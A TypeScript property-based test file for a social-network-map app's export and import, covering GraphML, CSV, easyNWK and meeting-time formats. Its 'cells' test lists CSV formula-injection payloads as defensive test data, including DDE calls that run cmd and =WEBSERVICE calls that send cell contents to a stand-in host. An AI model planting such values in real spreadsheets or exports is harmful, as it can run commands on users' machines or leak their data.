// What goes out comes back: everything a format can carry, and what it cannot is known.
import fc from 'fast-check'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { csvTable, neutral, unneutral } from '@domain/exchange/csv-cells'
import { fromPolar, toPolar } from '@domain/exchange/easynwk-places'
import type { FoundMap } from '@domain/exchange/found-map'
import { readMap } from '@domain/exchange/read-map'
import { readTimes, timesText } from '@domain/exchange/times-text'
import { writeCsvPair } from '@domain/exchange/write-csv'
import { writeEasynwk } from '@domain/exchange/write-easynwk'
import { writeGraphml } from '@domain/exchange/write-graphml'
import { circleAt } from '@domain/network/geometry'
import type { DayKey } from '@domain/time/day-key'
import { arbitraryMap } from './arbitrary-map'

const DAY = '2026-11-19' as DayKey
const found = (...texts: string[]): FoundMap => {
  const reading = readMap(texts.map((text, i) => ({ name: `${i}`, text })))
  if (reading.kind !== 'found') throw new Error(`${reading.why} ${reading.line ?? ''} ${reading.xml ?? ''}`)
  return reading.found
}

describe('a map taken out and brought in again', () => {
  it('is the same through GraphML: people with all fields, ties, my name', () => {
    fc.assert(
      fc.property(arbitraryMap, (map) => {
        const back = found(writeGraphml(map))
        expect(back.left).toEqual([])
        expect({ me: back.me, people: back.people, ties: back.ties }).toEqual(map)
      }),
    )
  })

  it('is the same through the pair of tables, in any order, in the hands of another program too', () => {
    fc.assert(
      fc.property(arbitraryMap, fc.boolean(), fc.constantFrom(';' as const, '\t' as const), (map, swapped, delimiter) => {
        const { people, ties } = writeCsvPair(map)
        for (const pair of [
          [people, ties],
          // As a spreadsheet saves it again: other separators, no mark.
          [people, ties].map((table) => Papa.unparse(Papa.parse<string[]>(table.replace('\uFEFF', ''), { newline: '\r\n', skipEmptyLines: true, delimiter: ',' }).data, { delimiter, newline: '\r\n' })),
        ]) {
          const back = found(...(swapped ? [...pair].reverse() : pair))
          expect(back.left).toEqual([])
          expect({ people: back.people, ties: back.ties }).toEqual({ people: map.people, ties: map.ties })
        }
      }),
    )
  })

  it('keeps through easyNWK names, roles, notes, circles, places, emotional support, conflict, form and ties', () => {
    fc.assert(
      fc.property(arbitraryMap, (map) => {
        const back = found(writeEasynwk(map.me, [{ name: 'Before', day: DAY, people: map.people, ties: map.ties }, { name: '', day: DAY, people: map.people, ties: map.ties }]))
        expect(back.left).toEqual([])
        expect(back.me).toBe(map.me || 'Me')
        for (const version of [back, ...back.versions]) {
          expect(version.people).toHaveLength(map.people.length)
          version.people.forEach((person, i) => {
            const was = map.people[i]!
            expect(person).toMatchObject({ name: was.name, role: was.role, note: was.note, circle: was.circle, form: was.form })
            expect(person.functions.stability).toBe(was.functions.stability)
            expect(person.tie.quality === 'stressful').toBe(was.tie.quality === 'stressful')
            expect(person.kind).toBe(was.kind === 'family' || was.kind === 'therapy' ? was.kind : 'other')
          })
          expect(version.ties.map(({ a, b }) => [a, b])).toEqual(map.ties.map(({ a, b }) => [a.slice(1), b.slice(1)]))
        }
        expect(back.versions).toMatchObject([{ name: 'Before', day: DAY }])
      }),
    )
  })
})

describe('places', () => {
  it('in easyNWK lie at the same closeness, and family and therapy in the same spot', () => {
    fc.assert(
      fc.property(arbitraryMap, ({ people }) => {
        for (const { kind, circle, position } of people) {
          const back = fromPolar(toPolar(kind, circle, position!))
          expect(back?.circle).toBe(circle)
          expect(circleAt(back!.position)).toBe(circle)
          expect(Math.abs(Math.hypot(back!.position.x, back!.position.y) - Math.hypot(position!.x, position!.y))).toBeLessThan(2)
        }
      }),
    )
  })
})

describe('cells', () => {
  it('run nothing in a spreadsheet, and come back as they were', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", 'a', ',', '"', '\n', ' ') }), { minLength: 2, maxLength: 3 }), { minLength: 1 }), (rows) => {
        for (const cell of rows.flat()) {
          expect(neutral(cell)).not.toMatch(/^[=+\-@\t\r]/)
          expect(unneutral(neutral(cell))).toBe(cell)
        }
        // An independent reader sees the same cells.
        const width = rows[0]!.length
        const square = rows.map((row) => [...row, ...Array<string>(width).fill('')].slice(0, width))
        expect(Papa.parse<string[]>(csvTable(square).slice(1), { newline: '\r\n', delimiter: ',' }).data.slice(0, -1)).toEqual(square)
      }),
    )
    const payloads = [
      '=HYPERLINK("http://x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', "=cmd|' /C calc'!A0", "'=1", "''=1", '=1+1', '=', '+', '-', '@', '\t', '\r',
      '=IMPORTXML("http://x","//a")', '=WEBSERVICE("http://x/"&A1)', '=DDE("cmd";"/C calc";"x")', "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
      '=IMAGE("http://x")', '=FILTERXML(A1,"//x")', '\t+1', '\r-1', '\t@x', '=\n1', '-1;=2', '+44 20 7946 0000', '=IF(1,HYPERLINK("http://x"))', '=INDIRECT("A1")', "'+1", "'\t=1",
    ]
    expect(payloads.length).toBeGreaterThanOrEqual(30)
    for (const payload of payloads) {
      expect(neutral(payload)[0]).toBe("'")
      expect(csvTable([[neutral(payload), 'x']]), 'also inside quotation marks').toMatch(/^\uFEFF"?'/)
    }
  })
})

describe('meeting times', () => {
  it('are a line one can read, and read back', () => {
    fc.assert(fc.property(arbitraryMap, ({ people }) => people.forEach(({ times }) => expect(readTimes(timesText(times))).toEqual(times))))
    expect(timesText([{ weekday: 'tuesday', occurrence: 'every', from: '19:00', to: '20:30', what: 'newcomers' }])).toBe('every tuesday 19:00-20:30 "newcomers"')
    for (const broken of ['tuesday', 'every tuesday 25:00', 'every tuesday 19:00 newcomers', 'every tuesday 19:00;']) expect(readTimes(broken)).toBeNull()
  })
})
